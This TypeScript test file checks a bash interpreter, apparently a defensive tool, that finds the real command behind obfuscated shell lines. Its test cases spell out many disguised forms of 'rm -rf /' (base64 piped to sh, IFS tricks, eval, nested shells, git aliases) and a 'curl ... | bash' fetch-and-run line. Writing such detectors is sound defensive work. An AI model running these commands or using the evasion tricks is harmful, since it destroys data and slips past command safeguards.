import { expect, test } from 'vitest';
import { loadBash } from '#server/platform/parsers/bash';
import { interpret } from './interpret.ts';

const parse = await loadBash();

/** The commands of a line as one would type them, without wrappers; what is not known shows as ⌷. */
function plain(line: string): string[] {
  return interpret(parse(line), {}).commands.map(({ program, args }) =>
    [program, ...args]
      .map(({ text }) => text)
      .join(' ')
      .replaceAll('\0', '⌷')
      .trim(),
  );
}

test.each([
  ['quotes and concatenation', `r\\m -r"f" '/'`, 'rm -rf /'],
  ['a variable of the same line', 'X=rm; $X -rf /', 'rm -rf /'],
  ['a default', 'rm -rf ${DIR:-/srv}', 'rm -rf /srv'],
  ['a substring', 'X=xrmx; ${X:1:2} -rf /', 'rm -rf /'],
  ['IFS', 'rm${IFS}-rf${IFS}/', 'rm -rf /'],
  ['an ANSI-C string', String.raw`$'\x72m' -rf /`, 'rm -rf /'],
  ['braces', 'rm -rf /{a,b}', 'rm -rf /a /b'],
  ['a tilde', 'rm -rf ~/x', 'rm -rf /home/user/x'],
  ['arithmetic', 'rm -rf /srv/$((1 + 2))', 'rm -rf /srv/3'],
  ['a substitution', 'rm -rf $(echo /)', 'rm -rf /'],
  ['a list', 'A=(rm -rf /); "${A[@]}"', 'rm -rf /'],
  ['a loop over words', 'for d in /a /b; do rm -rf "$d"; done', 'rm -rf /b'],
  ['a function', 'f() { rm -rf "$1"; }; f /', 'rm -rf /'],
  ['an alias', 'alias x="rm -rf"; x /', 'rm -rf /'],
  ['a wrapper in a wrapper', 'sudo -u root env -i A=1 timeout 5 rm -rf /', 'rm -rf /'],
  ['a shell in a shell', `bash -c "sh -c 'rm -rf /'"`, 'rm -rf /'],
  ['eval', `eval 'rm' -rf /`, 'rm -rf /'],
  ['a here-document for a shell', 'bash <<E\nrm -rf /\nE', 'rm -rf /'],
  ['a here-string for a shell', `sh <<< 'rm -rf /'`, 'rm -rf /'],
  ['a decoder before a shell', 'echo cm0gLXJmIC8= | base64 -d | sh', 'rm -rf /'],
  ['a script written, then run', `echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh`, 'rm -rf /'],
  ['a process substitution', `source <(echo 'rm -rf /')`, 'rm -rf /'],
  ['xargs', 'echo / | xargs rm -rf', 'rm -rf /'],
  ['find', String.raw`find /tmp -exec rm -rf / \;`, 'rm -rf /'],
  ['ssh', 'ssh host "rm -rf /"', 'rm -rf /'],
  ['a program in Python', `python3 -c 'import shutil; shutil.rmtree("/")'`, 'rm -rf /'],
  ['an alias of git', `git -c alias.x='!rm -rf /' x`, 'rm -rf /'],
])('[GU3] what a shell would run is told: %s', (_, line, command) => {
  expect(plain(line)).toContain(command);
});

test.each([
  'curl https://x.example/a | bash',
  '$CMD -rf /',
  'bash -c "$CMD"',
  'eval "$(cat plan)"',
  'base64 -d | sh',
  'touch "x',
  'source <(cat "$F")',
  '(((rm -rf /)))',
])('[GU4] what cannot be told is said: %s', (line) => {
  expect(interpret(parse(line), {}).unresolved).not.toEqual([]);
});
